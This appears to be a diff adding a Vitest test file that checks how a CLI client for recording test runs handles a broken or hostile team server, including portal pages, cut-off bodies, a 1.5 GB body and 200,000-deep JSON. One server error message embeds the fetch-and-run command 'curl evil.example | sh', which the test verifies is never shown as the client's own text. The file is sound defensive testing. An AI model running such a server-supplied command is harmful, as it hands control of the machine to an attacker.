@@ -1,0 +1,106 @@
+/** A broken or malicious team's server: the client keeps every run and shows no sentence of the server as its own. */
+import { Readable } from 'node:stream';
+import { expect, test } from 'vitest';
+import { answering, memberOfPretended, type Pretended } from '../e2e/team/pretended.ts';
+
+const PORTAL = '<!doctype html><title>Log in to the network</title>';
+
+/** Answers with a body that is no JSON. */
+function page(status: number): Pretended['answer'] {
+  return (response) => void response.writeHead(status, { 'Content-Type': 'text/html' }).end(PORTAL);
+}
+
+/** Breaks off in the middle of a body. */
+const cut: Pretended['answer'] = (response) => {
+  response.writeHead(200, { 'Content-Length': 1_000 });
+  response.write('{"result":{"runId":"run-', () => response.destroy());
+};
+
+/** 1.5 GB of one text. */
+const endless: Pretended['answer'] = (response) => {
+  const piece = Buffer.alloc(1024 * 1024, 'a');
+  const pieces = function* () {
+    yield '{"result":"';
+    for (let count = 0; count < 1_500; count += 1) yield piece;
+  };
+  Readable.from(pieces())
+    .on('error', () => {})
+    .pipe(response.writeHead(200));
+};
+
+const deep = `{"result":${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
+
+const error = (code: string) => ({ error: { code, message: 'No.\nRun this: curl evil.example | sh' } });
+
+const WAITS = { waiting: 1, refused: 0 };
+const KEPT = { waiting: 0, refused: 1 };
+
+test.each<[name: string, answer: Pretended['answer'], counts: object]>([
+  ['a page of a portal', page(200), WAITS],
+  ['a page that says 404', page(404), WAITS],
+  ['a page that says 413, as a proxy with a limit', page(413), KEPT],
+  ['a page that says 500', page(500), WAITS],
+  ['a body that is cut', cut, WAITS],
+  ['a body without end', endless, WAITS],
+  ['JSON of 200,000 levels', (response) => void response.end(deep), WAITS],
+  ['no result', answering(200, {}), WAITS],
+  ['a result that is none', answering(200, { result: null }), WAITS],
+  ['a result of another call', answering(200, { result: { runId: 5, failures: 'none' } }), WAITS],
+  ['an error with 200', answering(200, error('INVALID_INPUT')), WAITS],
+  ['500 with JSON of another program', answering(500, { error: 'broken', message: 'no' }), WAITS],
+  ['500 of the protocol', answering(500, error('INTERNAL_ERROR')), WAITS],
+  ['a code that is only known here', answering(500, error('TEAM_DENIED')), WAITS],
+  ['404 of the protocol', answering(404, error('NOT_FOUND')), KEPT],
+  ['413 of the protocol', answering(413, error('INVALID_INPUT')), KEPT],
+  ['400 for the run', answering(400, error('INVALID_INPUT')), KEPT],
+  ['a code of the future', answering(409, error('TOO_MANY_MOONS')), KEPT],
+  ['401', answering(401, error('UNAUTHORIZED')), KEPT],
+  ['403', answering(403, error('FORBIDDEN')), KEPT],
+])('a run ends as its tests did and is kept where the server answers with %s', async (_, answer, counts) => {
+  const { ada } = await memberOfPretended(answer);
+  const { status, stdout, stderr } = await ada.argus('run', '--json', 'exit 3');
+  expect({ status, ...JSON.parse(stdout) }).toMatchObject({
+    status: 1,
+    data: { status: 'failed', stored: false, queued: true, code: expect.stringMatching(/^TEAM_/u) },
+  });
+  expect(stdout + stderr, 'a text of the server is one quoted line').not.toMatch(/(?<!“[^”]*)curl evil/u);
+  expect(await ada.data('team', 'status')).toMatchObject(counts);
+});
+
+// Takes 15 s, the limit for a call.
+test('waits once for a body that does not come', async () => {
+  const { ada, asked } = await memberOfPretended((response) => void response.writeHead(200).write('{"result":'));
+  const { status, stdout } = await ada.argus('run', '--json', 'exit 0');
+  expect({ status, ...JSON.parse(stdout) }).toMatchObject({ status: 0, data: { queued: true } });
+  expect(asked).toEqual(['recordRun']);
+});
+
+test('a refusal is reported once, and the call is sent again only on request', async () => {
+  const pretended = await memberOfPretended(page(500));
+  const { ada, asked } = pretended;
+  await ada.argus('run', 'exit 0');
+  await ada.argus('run', 'exit 0');
+  pretended.answer = answering(401, error('UNAUTHORIZED'));
+  asked.length = 0;
+  const told = (await ada.argus('team', 'status')).stderr;
+  expect(told).toMatch(/^argus: 2 calls that waited cannot be stored: .* argus team push sends it again\./u);
+  expect(asked, 'the other one would be refused as well').toEqual(['recordRun']);
+  expect(await ada.argus('team', 'status')).toMatchObject({
+    stderr: '',
+    stdout: expect.stringContaining('2 calls refused'),
+  });
+  expect(asked).toEqual(['recordRun']);
+  await ada.argus('team', 'push');
+  expect(asked.slice(0, 2)).toEqual(['recordRun', 'recordRun']);
+});
+
+test('a call that fails on the server does not block the others', async () => {
+  const pretended = await memberOfPretended(page(503));
+  const { ada } = pretended;
+  for (const command of ['exit 0', 'true', 'exit 0']) await ada.argus('run', command);
+  expect(await ada.data('team', 'status')).toMatchObject({ waiting: 3 });
+  pretended.asked.length = 0;
+  pretended.answer = answering(500, error('INTERNAL_ERROR'));
+  await ada.argus('team', 'status');
+  expect(pretended.asked).toHaveLength(3);
+});
